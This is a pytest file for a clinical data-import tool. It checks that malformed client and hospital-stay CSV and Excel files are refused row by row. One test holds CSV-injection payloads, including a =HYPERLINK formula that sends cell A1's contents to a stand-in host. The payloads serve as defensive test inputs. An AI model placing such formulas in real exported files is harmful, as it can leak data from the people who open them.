"""The bad-input corpus: every file here is refused with a reason per row (or for the file),
and nothing is written."""

from __future__ import annotations

import io
import time

import pytest
from openpyxl import Workbook

from bridgeway.clients.models import Client, HospitalStay
from bridgeway.interop.models import ImportKey

from .helpers import CARDS, CLIENTS_HEADER, STAYS_HEADER, reasons, run

pytestmark = pytest.mark.django_db

GOOD_ROW = f"C1,Élise,Côté,1980-02-21,woman,{CARDS[0]},N6A,519-555-0101\n"


@pytest.fixture
def nothing_written(world):  # type: ignore[no-untyped-def]
    clients, stays = Client.objects.count(), HospitalStay.objects.count()
    yield
    assert Client.objects.count() == clients
    assert HospitalStay.objects.count() == stays
    assert not ImportKey.objects.exists()


def refused(kind: str, content: str | bytes, **kwargs) -> list[tuple[int, str, str]]:  # type: ignore[no-untyped-def]
    result = run(kind, content, **kwargs)
    assert not result.ok
    return reasons(result)


def test_windows_1252_and_bom_files_are_read_as_written(world) -> None:  # type: ignore[no-untyped-def]
    latin = run("clients", CLIENTS_HEADER + GOOD_ROW, encoding="cp1252", dry_run=True)
    assert latin.ok and latin.encoding == "cp1252"
    bom = run("clients", "\ufeff" + CLIENTS_HEADER + GOOD_ROW, dry_run=True)
    assert bom.ok and bom.encoding == "utf-8-sig"
    semicolons = run("clients", (CLIENTS_HEADER + GOOD_ROW).replace(",", ";"), dry_run=True)
    assert semicolons.ok and semicolons.separator == ";"


def test_text_that_stops_being_utf8_after_the_sample_is_refused(nothing_written) -> None:  # type: ignore[no-untyped-def]
    filler = "".join(f"K{i},Ann,Lee,1980-01-01,,,,\n" for i in range(4000))
    data = (CLIENTS_HEADER + filler).encode() + "Z1,Zoë,Lee,1980-01-01,,,,\n".encode("cp1252")
    result = run("clients", data)
    assert not result.ok and "not utf-8 text" in result.problem


def test_missing_and_extra_columns(nothing_written) -> None:  # type: ignore[no-untyped-def]
    assert (1, "date_of_birth", "A required column is missing.") in refused(
        "clients", "key,given_name,family_name\nC1,A,B\n")
    found = refused("clients", CLIENTS_HEADER.strip() + ",shoe_size\n" + GOOD_ROW.strip() + ",9\n")
    assert found[0][:2] == (1, "shoe_size") and "Not a column" in found[0][2]
    found = refused("clients", CLIENTS_HEADER + GOOD_ROW.strip() + ",surprise\n")
    assert found == [(2, "", "This row has 9 cells; the header has 8.")]
    assert refused("clients", CLIENTS_HEADER + "C1,Ann,Lee\n")[0][2].startswith("This row has 3")


def test_french_headers_are_accepted_others_are_refused_clearly(world) -> None:  # type: ignore[no-untyped-def]
    french = "clé,prénom,nom,date_naissance,genre,carte_santé,rta,téléphone\n"
    assert run("clients", french + GOOD_ROW, dry_run=True).ok
    spanish = "clave,nombre,apellido,fecha_nacimiento\nC1,Ana,Ruiz,1980-01-01\n"
    found = run("clients", spanish)
    assert not found.ok
    assert {e.column for e in found.errors} >= {"clave", "key", "date_of_birth"}


def test_bad_and_impossible_dates(nothing_written) -> None:  # type: ignore[no-untyped-def]
    found = refused("clients", CLIENTS_HEADER + "C1,A,B,2026-02-30,,,,\nC2,A,B,21/02/1980,,,,\n"
                    "C3,A,B,2031-01-01,,,,\n")
    assert found == [(2, "date_of_birth", "This date does not exist."),
                     (3, "date_of_birth", "Write dates as YYYY-MM-DD."),
                     (4, "date_of_birth", "A date of birth must be in the past 120 years.")]


def test_stay_dates_discharge_before_admission_and_overlaps(world) -> None:  # type: ignore[no-untyped-def]
    ward = world.ward_a.name
    key = ImportKey.objects.create(kind="clients", source="test", key="C1",
                                   object_id=world.client_a.id)
    HospitalStay.objects.create(client=world.client_a, hospital=world.hospital_a,
                                ward=world.ward_a, admitted_on="2018-01-01",
                                discharged_on="2018-02-01")
    stays = HospitalStay.objects.count()
    found = refused("stays", STAYS_HEADER
                    + f"S1,C1,riverside,{ward},2020-03-10,2020-03-01,\n"
                    + f"S2,C1,riverside,{ward},2021-01-01,2021-02-01,\n"
                    + f"S3,C1,riverside,{ward},2021-01-20,2021-03-01,\n"
                    + f"S4,C1,riverside,{ward},2018-01-15,2018-01-20,\n")
    assert HospitalStay.objects.count() == stays
    assert list(ImportKey.objects.all()) == [key]
    assert (2, "discharged_on", "Discharge is before admission.") in found
    assert (4, "admitted_on", "Overlaps the stay on line 3 (admitted 2021-01-01, "
            "discharged 2021-02-01).") in found
    assert (5, "admitted_on", "Overlaps a stay already recorded (admitted 2018-01-01, "
            "discharged 2018-02-01).") in found


def test_duplicate_keys_in_one_file(nothing_written) -> None:  # type: ignore[no-untyped-def]
    found = refused("clients", CLIENTS_HEADER + "C1,A,B,1980-01-01,,,,\nC1,C,D,1981-01-01,,,,\n")
    assert found == [(3, "key", "This key is already used on line 2.")]


def test_unknown_hospital_ward_and_client(world, nothing_written) -> None:  # type: ignore[no-untyped-def]
    found = refused("stays", STAYS_HEADER + "S1,C1,nowhere,4 East,2020-01-01,,\n"
                    "S2,C1,riverside,Ward 99,2020-01-01,,\n")
    assert found == [(2, "hospital", "Unknown hospital code."),
                     (3, "ward", "Unknown ward at this hospital.")]
    found = refused("stays", STAYS_HEADER + f"S1,NOPE,riverside,{world.ward_a.name},2020-01-01,,\n")
    assert found == [(2, "client_key",
                      "No client with this key has been imported from this source.")]


def test_empty_files(nothing_written) -> None:  # type: ignore[no-untyped-def]
    assert "empty" in run("clients", b"").problem
    assert "empty" in run("clients", b"\xef\xbb\xbf\r\n").problem
    assert "no rows" in run("clients", CLIENTS_HEADER).problem


def test_csv_injection_payloads_are_refused(nothing_written) -> None:  # type: ignore[no-untyped-def]
    found = refused("clients", CLIENTS_HEADER
                    + '"=HYPERLINK(""http://x.example/?""&A1,""click"")",A,B,1980-01-01,,,,\n'
                    + "C2,@SUM(1+1),B,1980-01-01,,,,\nC3,Ann,+1-2,1980-01-01,,,,\n")
    assert [(line, column) for line, column, _ in found] == [(2, "key"), (3, "given_name"),
                                                            (4, "family_name")]
    assert all("formula" in reason for _, _, reason in found)


def test_formulas_in_excel_cells_are_refused(nothing_written) -> None:  # type: ignore[no-untyped-def]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(CLIENTS_HEADER.strip().split(","))
    sheet.append(["C1", "Ann", "Lee", "1980-01-01"])
    sheet.append(["C2", "=CONCAT(\"A\",\"B\")", "Lee", "1981-01-01"])
    buf = io.BytesIO()
    book.save(buf)
    result = run("clients", buf.getvalue(), name="clients.xlsx")
    assert reasons(result) == [(3, "given_name", "A formula (or a cell a spreadsheet would run "
                                "as one); type the value itself.")]


def test_excel_file_imports(world) -> None:  # type: ignore[no-untyped-def]
    from datetime import datetime

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(CLIENTS_HEADER.strip().split(","))
    sheet.append(["C1", "Ann", "Lee", datetime(1980, 1, 2), None, int(CARDS[1]), "N6A"])
    buf = io.BytesIO()
    book.save(buf)
    result = run("clients", buf.getvalue(), name="clients.xlsx")
    assert result.ok, reasons(result)
    assert Client.objects.get(health_card_number=CARDS[1]).date_of_birth.isoformat() == "1980-01-02"


def test_a_50_mb_file_is_streamed_and_refused_in_bounded_time(nothing_written) -> None:  # type: ignore[no-untyped-def]
    row = "S{},C{},no-such-hospital,Some ward name here,2020-01-01,2020-01-09,home\n"
    parts, size, i = [STAYS_HEADER], len(STAYS_HEADER), 0
    while size < 50_000_000:
        line = row.format(i, i)
        parts.append(line)
        size += len(line)
        i += 1
    data = "".join(parts).encode()
    del parts
    started = time.perf_counter()
    result = run("stays", data)
    elapsed = time.perf_counter() - started
    assert result.rows == i and result.error_count == i
    assert len(result.errors) == 5000
    assert elapsed < 120, elapsed
